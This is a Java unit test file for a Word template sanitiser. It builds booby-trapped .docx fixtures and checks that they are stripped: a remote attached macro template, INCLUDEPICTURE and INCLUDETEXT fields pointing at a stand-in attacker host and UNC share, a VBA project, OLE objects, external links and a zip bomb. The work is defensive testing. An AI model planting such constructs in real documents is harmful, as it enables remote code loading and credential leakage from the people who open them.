package se.vp.render.word;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.docx4j.openpackaging.packages.WordprocessingMLPackage;
import org.junit.jupiter.api.Test;
import se.vp.render.ooxml.ReferenceCleaner;

/**
 * A reference document from a pull request, crafted as an attacker would: each thing Word would
 * fetch, run or leak when a secretary opens a handling is taken out and named, and the look stays.
 */
public class ReferenceCleanerTest {

  private static final String RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

  /** The committed reference document's parts, by name, in its order. */
  public static Map<String, String> committed() throws IOException {
    return committed(Path.of("templates/referens.docx"));
  }

  /** A committed reference file's parts, by name, in its order. */
  public static Map<String, String> committed(Path file) throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    try (ZipInputStream zip = new ZipInputStream(Files.newInputStream(file))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        parts.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return parts;
  }

  public static byte[] zip(Map<String, String> parts) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (Map.Entry<String, String> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    return out.toByteArray();
  }

  /** Adds a relationship to a part's relationships. */
  public static void relate(Map<String, String> parts, String rels, String id, String type, String target, boolean external) {
    parts.put(rels, parts.get(rels).replace("</Relationships>", "<Relationship Id=\"" + id + "\" Type=\"" + RELS + type
        + "\" Target=\"" + target + "\"" + (external ? " TargetMode=\"External\"" : "") + "/></Relationships>"));
  }

  public static void edit(Map<String, String> parts, String part, String from, String to) {
    assertTrue(parts.get(part).contains(from), from + " is not in " + part);
    parts.put(part, parts.get(part).replace(from, to));
  }

  private static Map<String, String> unzip(byte[] docx) throws IOException {
    Map<String, String> parts = new LinkedHashMap<>();
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(docx))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        parts.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    return parts;
  }

  private static String all(Map<String, String> parts) {
    return String.join("\n", parts.values());
  }

  @Test
  void keepsTheCommittedReferenceDocumentWhole() throws Exception {
    Map<String, String> before = committed();
    ReferenceCleaner.Cleaned cleaned =
        ReferenceCleaner.clean(Files.readAllBytes(Path.of("templates/referens.docx")), ReferenceCleaner.WORD);
    assertEquals(List.of(), cleaned.dropped());
    Map<String, String> after = unzip(cleaned.bytes());
    assertEquals(before.keySet(), after.keySet());
    assertTrue(after.get("word/footer1.xml").contains(" PAGE "));
    assertTrue(after.get("word/footer1.xml").contains(" NUMPAGES "));
    assertTrue(after.get("word/header1.xml").contains("{sidhuvud}"));
    WordprocessingMLPackage.load(new ByteArrayInputStream(cleaned.bytes()));
  }

  @Test
  void dropsAnAttachedTemplateOnAServer() throws Exception {
    Map<String, String> parts = committed();
    parts.put("word/_rels/settings.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships"
        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>");
    relate(parts, "word/_rels/settings.xml.rels", "rId9", "attachedTemplate", "http://angripare.example/mall.dotm", true);
    edit(parts, "word/settings.xml", "</w:settings>", "<w:attachedTemplate r:id=\"rId9\"/></w:settings>");

    ReferenceCleaner.Cleaned cleaned = ReferenceCleaner.clean(zip(parts), ReferenceCleaner.WORD);

    assertEquals(List.of("en länk ut ur dokumentet, till http://angripare.example/mall.dotm (den bifogade dokumentmallen)"),
        cleaned.dropped());
    String after = all(unzip(cleaned.bytes()));
    assertFalse(after.contains("angripare"), after);
    assertFalse(after.contains("attachedTemplate"), after);
  }

  @Test
  void dropsFieldsThatFetchOrIncludeAndKeepsPageNumbers() throws Exception {
    Map<String, String> parts = committed();
    edit(parts, "word/header1.xml", "</w:p>", "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText"
        + " xml:space=\"preserve\"> INCLUDEPICTURE \"\\\\\\\\angripare\\\\dela\\\\bild.png\" \\d </w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>bild</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
        + "<w:fldSimple w:instr=\" INCLUDETEXT &quot;https://angripare.example/text.docx&quot; \"><w:r><w:t>text</w:t></w:r>"
        + "</w:fldSimple><w:fldSimple w:instr=\" DATE \\@ &quot;yyyy-MM-dd&quot; \"><w:r><w:t>2025-01-01</w:t></w:r>"
        + "</w:fldSimple></w:p>");

    ReferenceCleaner.Cleaned cleaned = ReferenceCleaner.clean(zip(parts), ReferenceCleaner.WORD);

    assertEquals(List.of("fältet INCLUDETEXT", "fältet INCLUDEPICTURE"), cleaned.dropped());
    Map<String, String> after = unzip(cleaned.bytes());
    String header = after.get("word/header1.xml");
    assertFalse(header.contains("angripare"), header);
    assertFalse(header.contains("INCLUDE"), header);
    assertTrue(header.contains("<w:t>bild</w:t>") && header.contains("<w:t>text</w:t>"), header);
    assertTrue(header.contains("DATE"), header);
    assertTrue(after.get("word/footer1.xml").contains(" PAGE "));
  }

  @Test
  void dropsMacrosAndMakesTheDocumentAPlainOne() throws Exception {
    Map<String, String> parts = committed();
    parts.put("word/vbaProject.bin", "makrokod");
    relate(parts, "word/_rels/document.xml.rels", "rId20", "vbaProject", "vbaProject.bin", false);
    edit(parts, "[Content_Types].xml", "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml");
    edit(parts, "[Content_Types].xml", "</Types>",
        "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");

    ReferenceCleaner.Cleaned cleaned = ReferenceCleaner.clean(zip(parts), ReferenceCleaner.WORD);

    assertEquals(List.of("makron"), cleaned.dropped());
    Map<String, String> after = unzip(cleaned.bytes());
    assertFalse(after.containsKey("word/vbaProject.bin"));
    assertFalse(all(after).contains("vbaProject"), all(after));
    assertFalse(all(after).contains("macroEnabled"), all(after));
    assertTrue(after.get("[Content_Types].xml").contains("wordprocessingml.document.main+xml"));
  }

  @Test
  void dropsEmbeddedObjectsCustomXmlExternalPicturesAndLinks() throws Exception {
    Map<String, String> parts = committed();
    parts.put("word/embeddings/oleObject1.bin", "ole");
    parts.put("customXml/item1.xml", "<data>hemligt</data>");
    parts.put("word/_rels/header1.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships"
        + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>");
    relate(parts, "word/_rels/header1.xml.rels", "rId1", "oleObject", "embeddings/oleObject1.bin", false);
    relate(parts, "word/_rels/header1.xml.rels", "rId2", "image", "file://angripare/dela/bild.png", true);
    relate(parts, "word/_rels/header1.xml.rels", "rId3", "hyperlink", "https://angripare.example/", true);
    relate(parts, "word/_rels/document.xml.rels", "rId21", "customXml", "../customXml/item1.xml", false);
    edit(parts, "word/header1.xml", "</w:p>", "<w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\""
        + " r:id=\"rId1\"/></w:object></w:r><w:r><w:drawing><a:blip xmlns:a=\"http://schemas.openxmlformats.org/"
        + "drawingml/2006/main\" r:link=\"rId2\"/></w:drawing></w:r><w:hyperlink r:id=\"rId3\"><w:r><w:t>Regionen"
        + "</w:t></w:r></w:hyperlink></w:p>");

    ReferenceCleaner.Cleaned cleaned = ReferenceCleaner.clean(zip(parts), ReferenceCleaner.WORD);

    assertEquals(List.of("egen XML", "en länk ut ur dokumentet, till file://angripare/dela/bild.png",
        "en länk ut ur dokumentet, till https://angripare.example/", "inbäddade objekt"),
        cleaned.dropped().stream().sorted().toList());
    Map<String, String> after = unzip(cleaned.bytes());
    assertFalse(after.containsKey("word/embeddings/oleObject1.bin"));
    assertFalse(after.containsKey("customXml/item1.xml"));
    String text = all(after);
    assertFalse(text.contains("angripare") || text.contains("OLEObject") || text.contains("r:link"), text);
    assertTrue(after.get("word/header1.xml").contains("<w:t>Regionen</w:t>"));
  }

  @Test
  void refusesWhatIsNoPackageOrTooLargeUnpacked() throws Exception {
    assertEquals("filen är inget Word-dokument (ingen giltig zip)",
        assertThrows(ReferenceCleaner.Unusable.class,
            () -> ReferenceCleaner.clean("inte en zip".getBytes(), ReferenceCleaner.WORD)).getMessage());
    Map<String, String> parts = committed();
    parts.put("word/media/bomb.bin", "0".repeat((int) ReferenceCleaner.MAX_UNPACKED_BYTES));
    assertEquals("paketet packas upp till mer än 64 MiB",
        assertThrows(ReferenceCleaner.Unusable.class,
            () -> ReferenceCleaner.clean(zip(parts), ReferenceCleaner.WORD)).getMessage());
  }
}
